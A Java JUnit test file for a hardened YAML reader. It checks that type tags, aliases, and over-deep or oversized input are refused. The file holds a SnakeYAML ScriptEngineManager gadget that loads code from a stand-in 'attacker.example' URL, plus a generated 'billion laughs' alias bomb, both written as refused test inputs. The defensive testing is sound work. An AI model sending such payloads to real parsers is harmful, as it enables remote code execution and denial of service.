package dev.assay.json;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** YAML is read as plain data: typed objects, aliases, and oversized or deep documents refused. */
class SafeYamlTest {

  @AfterEach
  void defaults() {
    YamlLimits.set(YamlLimits.DEFAULTS);
  }

  @Test
  void plainDataReads() throws IOException {
    var node =
        SafeYaml.readTree(
            "id: x\nversion: \"1.0\"\nn: 3\nok: !!bool true\nlist: [a, b]\nmap: {k: v}\n");
    assertEquals("x", node.get("id").asText());
    assertEquals(3, node.get("n").asInt());
    assertTrue(node.get("ok").asBoolean());
  }

  @Test
  void aJavaTypeTagIsRefusedNamingTheTagAndTheLine() {
    var e =
        assertThrows(
            SafeYaml.UnsafeYamlException.class,
            () -> SafeYaml.readTree("id: x\nurl: !!java.net.URL [\"http://example.com\"]\n"));
    assertTrue(
        e.getMessage().startsWith("line 2, column 6: the tag !!java.net.URL is refused"),
        e.getMessage());
  }

  @Test
  void aSnakeYamlGadgetIsRefused() {
    String gadget =
        "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL"
            + " [\"http://attacker.example/\"]]]]\n";
    var e = assertThrows(SafeYaml.UnsafeYamlException.class, () -> SafeYaml.readTree(gadget));
    assertTrue(e.getMessage().contains("!!javax.script.ScriptEngineManager"), e.getMessage());
  }

  @Test
  void aLocalTagIsRefused() {
    var e =
        assertThrows(
            SafeYaml.UnsafeYamlException.class, () -> SafeYaml.readTree("a: !Thing {b: 1}\n"));
    assertTrue(e.getMessage().contains("the tag !Thing is refused"), e.getMessage());
  }

  @Test
  void billionLaughsIsRefusedAtTheFirstAlias() {
    StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (char c = 'b'; c <= 'j'; c++) {
      char prev = (char) (c - 1);
      bomb.append(c).append(": &").append(c).append(" [");
      for (int i = 0; i < 9; i++) {
        bomb.append(i == 0 ? "" : ",").append('*').append(prev);
      }
      bomb.append("]\n");
    }
    var e =
        assertThrows(SafeYaml.UnsafeYamlException.class, () -> SafeYaml.readTree(bomb.toString()));
    assertTrue(e.getMessage().startsWith("line 2, "), e.getMessage());
    assertTrue(e.getMessage().contains("the alias *a is refused"), e.getMessage());
  }

  @Test
  void tooDeepIsRefusedNamingTheLimit() throws IOException {
    YamlLimits.set(new YamlLimits(1000, 5));
    String deep = "[".repeat(6) + "]".repeat(6);
    var e = assertThrows(SafeYaml.UnsafeYamlException.class, () -> SafeYaml.readTree(deep));
    assertTrue(e.getMessage().contains("assay.limits.yaml-max-depth"), e.getMessage());
    assertEquals(
        0, SafeYaml.readTree("[".repeat(5) + "]".repeat(5)).get(0).get(0).get(0).get(0).size());
  }

  @Test
  void tooLargeIsRefusedNamingTheLimit() {
    YamlLimits.set(new YamlLimits(100, 64));
    var e =
        assertThrows(
            SafeYaml.UnsafeYamlException.class, () -> SafeYaml.readTree("a: " + "x".repeat(200)));
    assertTrue(e.getMessage().contains("assay.limits.yaml-max-chars"), e.getMessage());
  }

  @Test
  void syntaxErrorsStillComeFromTheParser() {
    assertThrows(IOException.class, () -> SafeYaml.readTree("a: [1, 2\nb: }"));
  }
}
